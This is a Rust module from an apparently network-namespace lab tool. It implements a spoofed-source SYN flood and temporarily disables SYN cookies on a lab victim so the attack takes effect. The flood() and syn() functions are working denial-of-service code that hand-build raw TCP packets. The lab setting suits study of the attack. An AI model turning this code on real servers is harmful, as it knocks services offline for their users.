//! A SYN flood: raw SYNs from addresses that nobody has, so that no handshake is ever completed.

use crate::lab::CLIENT_ADDRESS;
use crate::os::netns::NetNs;
use crate::os::process::run;
use anyhow::{Context, Result};
use std::io::Error;
use std::mem::{size_of, zeroed};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// A tick's worth of SYNs: five thousand a second.
const ROUND: u32 = 25;
const TICK: Duration = Duration::from_millis(5);

/// 198.18.0.0/15 is set aside for benchmarks (RFC 2544).
const SOURCES: &str = "198.18.0.0/16";

/// Makes the victim open to it. With SYN cookies a flood drops nothing; where they are off it does. What the victim answers goes to the
/// client's host, which lets it fall silently, as the internet does: on the own link a failed neighbour discovery would end each
/// half-open connection after three seconds, and count it as dropped.
pub(super) fn open(victim: &NetNs) -> Result<()> {
    victim.sysctl("net.ipv4.tcp_syncookies", "0")?;
    // Half-open connections last 3 s instead of 63.
    victim.sysctl("net.ipv4.tcp_synack_retries", "1")?;
    route(victim, "add")
}

/// Undoes [`open`].
pub(super) fn close(victim: &NetNs) -> Result<()> {
    victim.sysctl("net.ipv4.tcp_syncookies", "1")?;
    victim.sysctl("net.ipv4.tcp_synack_retries", "5")?;
    route(victim, "del")
}

fn route(victim: &NetNs, action: &str) -> Result<()> {
    let via = CLIENT_ADDRESS.to_string();
    run(std::process::Command::new("ip").args(["-n", victim.name(), "route", action, SOURCES, "via", &via]))?;
    Ok(())
}

/// Sends SYNs to `target` until the time is over, from a thread inside the attacker's namespace.
pub(super) fn flood(target: SocketAddrV4, duration: Duration) -> Result<()> {
    // SAFETY: plain integers; the descriptor is owned from here on.
    let socket = unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW);
        if fd < 0 {
            return Err(Error::last_os_error()).context("raw socket for the SYN flood");
        }
        OwnedFd::from_raw_fd(fd)
    };
    // SAFETY: an all-zero sockaddr_in is valid.
    let mut address: libc::sockaddr_in = unsafe { zeroed() };
    address.sin_family = libc::AF_INET as u16;
    address.sin_addr.s_addr = u32::from(*target.ip()).to_be();
    let end = Instant::now() + duration;
    let mut number = 0_u32;
    while Instant::now() < end {
        for _ in 0..ROUND {
            number = number.wrapping_add(1);
            let packet = syn(number, target);
            // SAFETY: pointers and lengths of live values.
            let sent = unsafe {
                libc::sendto(
                    socket.as_raw_fd(),
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    std::ptr::from_ref(&address).cast(),
                    size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if sent < 0 {
                return Err(Error::last_os_error()).context("send a SYN");
            }
        }
        std::thread::sleep(TICK);
    }
    Ok(())
}

/// IP and TCP header of the flood's `number`th SYN. The kernel fills in the IP checksum.
fn syn(number: u32, target: SocketAddrV4) -> [u8; 40] {
    let source = Ipv4Addr::new(198, 18, (number >> 8) as u8, number as u8);
    let mut packet = [0_u8; 40];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&40_u16.to_be_bytes());
    packet[8] = 64;
    packet[9] = libc::IPPROTO_TCP as u8;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    let port = 1024 + (number / 65_536 % 60_000) as u16;
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&target.port().to_be_bytes());
    packet[24..28].copy_from_slice(&number.wrapping_mul(2_654_435_761).to_be_bytes());
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
    let sum = checksum(&packet);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// TCP checksum over the pseudo header and the header.
fn checksum(packet: &[u8; 40]) -> u16 {
    let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum = words.sum::<u32>() + libc::IPPROTO_TCP as u32 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_a_right_checksum_and_a_source_of_the_range() {
        let packet = syn(123_456, SocketAddrV4::new(Ipv4Addr::new(10, 77, 0, 2), 80));
        // Summed with its own checksum it is all ones, so the complement is zero.
        assert_eq!(checksum(&packet), 0);
        assert_eq!(packet[12..14], [198, 18]);
        assert_eq!((packet[33], &packet[22..24]), (0x02, &80_u16.to_be_bytes()[..]));
    }
}
